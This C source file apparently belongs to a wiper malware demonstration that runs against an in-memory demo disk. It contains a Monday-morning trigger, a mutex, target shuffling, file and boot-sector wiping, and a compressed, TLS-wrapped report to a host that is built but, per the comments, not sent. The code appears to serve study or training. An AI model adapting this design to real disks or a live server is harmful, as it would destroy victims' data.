/* Wiper: the report, the trigger, main. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <zlib.h>

#include "wiper.h"

static size_t write_report(const struct vdisk *d, uint8_t *out, size_t cap, uint32_t host_id)
{
    char text[4096];
    size_t n = (size_t)snprintf(text, sizeof(text), "host %08x passes %d\n", host_id, PASSES);
    for (unsigned i = 0; i < d->nfiles && n + 80 < sizeof(text); i++)
        n += (size_t)snprintf(text + n, sizeof(text) - n, "%c %8u %s\n", d->files[i].wiped ? 'W' : '-',
                              d->files[i].size, d->files[i].name);
    z_stream zs;
    memset(&zs, 0, sizeof(zs));
    if (deflateInit2(&zs, Z_BEST_COMPRESSION, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY) != Z_OK)
        return 0;
    zs.next_in = (Bytef *)text;
    zs.avail_in = (uInt)n;
    zs.next_out = out;
    zs.avail_out = (uInt)cap;
    int r = deflate(&zs, Z_FINISH);
    size_t len = cap - zs.avail_out;
    deflateEnd(&zs);
    return r == Z_STREAM_END ? len : 0;
}

static int armed(void)
{
    time_t now = time(NULL);
    struct tm *t = localtime(&now);
    /* fires only on a Monday morning */
    return t && t->tm_wday == 1 && t->tm_hour >= 6 && t->tm_hour < 9;
}

static int send_report(const uint8_t *rep, size_t n, uint32_t host_id)
{
    struct alpha_session s;
    uint8_t rec[8192];
    if (!alpha_tls_client_hello(rec, sizeof(rec), alpha_str(ASTR_HOST), host_id, &s))
        return -1;
    /* no server in the demo: the record is built and dropped */
    size_t w = alpha_tls_wrap(rec, sizeof(rec), rep, n, &s);
    printf("report: %zu bytes compressed, %zu bytes on the wire (not sent)\n", n, w);
    return w ? 0 : -2;
}

int main(int argc, char **argv)
{
    struct vdisk d;
    unsigned idx[MAX_FILES];
    uint8_t rep[4096];
    char mutex[64];
    const char *user = getenv("USER");
    uint32_t id = alpha_host_id("demo-host", user ? user : "user");

    alpha_mutex_name(mutex, sizeof(mutex), id);
    printf("alpha wiper v%d (in-memory demo disk), mutex %s, %s\n", TOOL_VERSION, mutex,
           armed() ? "armed" : "not armed (runs anyway on the demo disk)");
    d.data = malloc(DISK_SIZE);
    if (!d.data)
        return 1;
    make_demo_disk(&d);
    uint32_t seed = id ^ (uint32_t)(argc > 1 ? strtoul(argv[1], NULL, 0) : 0x51);
    unsigned n = enumerate_targets(&d, idx, MAX_FILES);
#if TOOL_VERSION >= 2
    shuffle_targets(idx, n, seed);
#endif
    for (unsigned i = 0; i < n; i++)
        wipe_file(&d, &d.files[idx[i]], seed);
    wipe_boot_sector(&d, seed);
    size_t rl = write_report(&d, rep, sizeof(rep), id);
    send_report(rep, rl, id);
    printf("%u of %u demo files wiped in memory\n", n, d.nfiles);
    free(d.data);
    return 0;
}
